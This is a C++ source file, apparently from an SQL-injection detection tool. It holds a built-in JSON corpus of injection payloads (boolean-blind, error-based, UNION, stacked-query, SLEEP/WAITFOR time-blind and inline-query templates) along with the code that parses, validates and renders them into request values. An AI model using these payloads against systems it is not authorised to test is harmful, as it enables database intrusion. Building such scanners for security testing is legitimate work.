#include "tpsqli/corpus.hpp"

#include <filesystem>
#include <fstream>
#include <set>
#include <sstream>

#include <nlohmann/json.hpp>

#include "tpsqli/errors.hpp"

namespace tpsqli {
namespace {

using nlohmann::json;

// Built-in corpus. Markers are deliberately low-entropy tokens that never occur
// in ordinary page bodies.
constexpr const char* kDefaultCorpusJson = R"JSON({
  "version": "builtin-1",
  "payloads": [
    {"id": "b-and-squote", "technique": "B", "template": "{value}' AND '1'='1",
     "hint": {"false_variant": "{value}' AND '1'='2"}},
    {"id": "b-and-dquote", "technique": "B", "template": "{value}\" AND \"1\"=\"1",
     "hint": {"false_variant": "{value}\" AND \"1\"=\"2"}},
    {"id": "b-and-numeric", "technique": "B", "template": "{value} AND 7482=7482",
     "hint": {"false_variant": "{value} AND 7482=7481"}},

    {"id": "e-quote", "technique": "E", "template": "{value}'",
     "hint": {"error_signatures": ["You have an error in your SQL syntax",
                                   "Warning: mysql_",
                                   "unterminated quoted string",
                                   "ORA-01756"]}},
    {"id": "e-extractvalue", "technique": "E",
     "template": "{value}' AND extractvalue(1738,concat(0x7e,version()))-- ",
     "hint": {"error_signatures": ["You have an error in your SQL syntax",
                                   "XPATH syntax error"]}},
    {"id": "e-cast", "technique": "E",
     "template": "{value}' AND CAST(version() AS int)>1738-- ",
     "hint": {"error_signatures": ["You have an error in your SQL syntax",
                                   "invalid input syntax"]}},

    {"id": "u-one-col", "technique": "U",
     "template": "{value}' UNION SELECT 'zqxq_u1_mark'-- ",
     "hint": {"marker": "zqxq_u1_mark"}},
    {"id": "u-two-col", "technique": "U",
     "template": "{value}' UNION SELECT 'zqxq_u2_mark','zqxq_u2_fill'-- ",
     "hint": {"marker": "zqxq_u2_mark"}},
    {"id": "u-all-col", "technique": "U",
     "template": "{value}' UNION ALL SELECT 'zqxq_u3_mark'-- ",
     "hint": {"marker": "zqxq_u3_mark"}},

    {"id": "s-select", "technique": "S",
     "template": "{value}'; SELECT 'zqxq_s1_mark'-- ",
     "hint": {"marker": "zqxq_s1_mark"}},
    {"id": "s-waitfor", "technique": "S",
     "template": "{value}'; WAITFOR DELAY '0:0:0.25'-- ",
     "hint": {"delay_seconds": 0.25}},
    {"id": "s-select-bare", "technique": "S",
     "template": "{value}; SELECT 'zqxq_s3_mark'",
     "hint": {"marker": "zqxq_s3_mark"}},

    {"id": "t-sleep-and", "technique": "T",
     "template": "{value}' AND SLEEP(0.2)-- ",
     "hint": {"delay_seconds": 0.2}},
    {"id": "t-sleep-or", "technique": "T",
     "template": "{value}' OR SLEEP(0.35)-- ",
     "hint": {"delay_seconds": 0.35}},
    {"id": "t-sleep-bare", "technique": "T",
     "template": "{value} AND SLEEP(0.6)",
     "hint": {"delay_seconds": 0.6}},

    {"id": "q-select-eq", "technique": "Q",
     "template": "{value}' AND (SELECT 'zqxq_q1_mark')='zqxq_q1_mark",
     "hint": {"marker": "zqxq_q1_mark"}},
    {"id": "q-select-cmp", "technique": "Q",
     "template": "{value}' AND (SELECT 'zqxq_q2_mark')<>'2",
     "hint": {"marker": "zqxq_q2_mark"}},
    {"id": "q-select-bare", "technique": "Q",
     "template": "{value} AND (SELECT 'zqxq_q3_mark')=(SELECT 'zqxq_q3_mark')",
     "hint": {"marker": "zqxq_q3_mark"}}
  ]
})JSON";

std::size_t marker_count(std::string_view text) {
    std::size_t n = 0;
    std::size_t pos = 0;
    while ((pos = text.find(kValueMarker, pos)) != std::string_view::npos) {
        ++n;
        pos += kValueMarker.size();
    }
    return n;
}

std::string substitute(std::string_view tmpl, std::string_view value) {
    std::string out(tmpl);
    const std::size_t pos = out.find(kValueMarker);
    if (pos == std::string::npos) {
        throw ValidationError("payload template has no substitution marker");
    }
    out.replace(pos, kValueMarker.size(), value);
    return out;
}

DetectionHint parse_hint(const json& j, const std::string& payload_id) {
    DetectionHint hint;
    if (j.contains("delay_seconds")) hint.delay_seconds = j.at("delay_seconds").get<double>();
    if (j.contains("error_signatures")) {
        hint.error_signatures = j.at("error_signatures").get<std::vector<std::string>>();
    }
    if (j.contains("marker")) hint.marker = j.at("marker").get<std::string>();
    if (j.contains("false_variant")) hint.false_variant = j.at("false_variant").get<std::string>();
    for (const auto& [key, value] : j.items()) {
        (void)value;
        if (key != "delay_seconds" && key != "error_signatures" && key != "marker" &&
            key != "false_variant") {
            throw ParseError("corpus payload '" + payload_id + "': unknown hint field '" + key + "'");
        }
    }
    return hint;
}

void validate_hint(const Payload& p) {
    const std::string where = "corpus payload '" + p.id + "'";
    switch (p.technique) {
        case Technique::BooleanBlind:
            if (p.hint.false_variant.empty())
                throw ParseError(where + ": BooleanBlind payloads need hint.false_variant");
            if (marker_count(p.hint.false_variant) != 1)
                throw ParseError(where + ": false_variant must contain exactly one " +
                                 std::string(kValueMarker));
            break;
        case Technique::ErrorBased:
            if (p.hint.error_signatures.empty())
                throw ParseError(where + ": ErrorBased payloads need hint.error_signatures");
            break;
        case Technique::UnionBased:
        case Technique::InlineQuery:
            if (p.hint.marker.empty())
                throw ParseError(where + ": payload needs hint.marker");
            break;
        case Technique::StackBased:
            if (p.hint.marker.empty() && p.hint.delay_seconds <= 0.0)
                throw ParseError(where + ": StackBased payloads need hint.marker or a positive "
                                         "hint.delay_seconds");
            break;
        case Technique::TimeBlind:
            if (p.hint.delay_seconds <= 0.0)
                throw ParseError(where + ": TimeBlind payloads need a positive hint.delay_seconds");
            break;
    }
}

}  // namespace

std::string Payload::render(std::string_view original_value) const {
    return substitute(template_text, original_value);
}

std::string Payload::render_false(std::string_view original_value) const {
    if (hint.false_variant.empty()) {
        throw ValidationError("payload '" + id + "' has no false-condition variant");
    }
    return substitute(hint.false_variant, original_value);
}

PayloadCorpus parse_corpus(const std::string& json_text) {
    json doc;
    try {
        doc = json::parse(json_text);
    } catch (const json::parse_error& e) {
        throw ParseError(std::string("corpus: ") + e.what(), e.byte);
    }

    PayloadCorpus corpus;
    try {
        corpus.version = doc.at("version").get<std::string>();
        const json& entries = doc.at("payloads");
        if (!entries.is_array()) throw ParseError("corpus: 'payloads' must be an array");
        for (const json& entry : entries) {
            Payload p;
            p.id = entry.at("id").get<std::string>();
            const std::string letter = entry.at("technique").get<std::string>();
            if (letter.size() != 1) {
                throw ParseError("corpus payload '" + p.id + "': technique must be a single letter");
            }
            p.technique = technique_from_letter(letter[0]);
            p.template_text = entry.at("template").get<std::string>();
            p.risk = entry.value("risk", 2);
            if (entry.contains("hint")) p.hint = parse_hint(entry.at("hint"), p.id);
            corpus.payloads.push_back(std::move(p));
        }
    } catch (const json::exception& e) {
        throw ParseError(std::string("corpus: ") + e.what());
    } catch (const ValidationError& e) {
        throw ParseError(std::string("corpus: ") + e.what());
    }

    validate_corpus(corpus);
    return corpus;
}

void validate_corpus(const PayloadCorpus& corpus) {
    std::set<std::string> seen_ids;
    std::set<Technique> covered;
    for (const Payload& p : corpus.payloads) {
        if (p.id.empty()) throw ParseError("corpus: payload with empty id");
        if (!seen_ids.insert(p.id).second) {
            throw ParseError("corpus payload '" + p.id + "': duplicate id");
        }
        if (p.risk < 1 || p.risk > 3) {
            throw ParseError("corpus payload '" + p.id + "': risk must be 1, 2 or 3");
        }
        if (marker_count(p.template_text) != 1) {
            throw ParseError("corpus payload '" + p.id + "': template must contain exactly one " +
                             std::string(kValueMarker));
        }
        validate_hint(p);
        covered.insert(p.technique);
    }

    if (covered.size() != kTechniqueCount) {
        std::string missing;
        for (Technique t : kDefaultOrder) {
            if (!covered.count(t)) missing.push_back(technique_letter(t));
        }
        throw ValidationError("corpus does not cover techniques {" + missing + "}");
    }
}

PayloadCorpus load_corpus(const std::string& source) {
    if (source == "default") {
        return parse_corpus(kDefaultCorpusJson);
    }
    std::ifstream in(source, std::ios::binary);
    if (!in) {
        throw ParseError("corpus file '" + source + "' is not readable");
    }
    std::ostringstream buf;
    buf << in.rdbuf();
    return parse_corpus(buf.str());
}

std::vector<Payload> payloads_for(const PayloadCorpus& corpus, Technique technique) {
    std::vector<Payload> out;
    for (const Payload& p : corpus.payloads) {
        if (p.technique == technique) out.push_back(p);
    }
    return out;
}

}  // namespace tpsqli
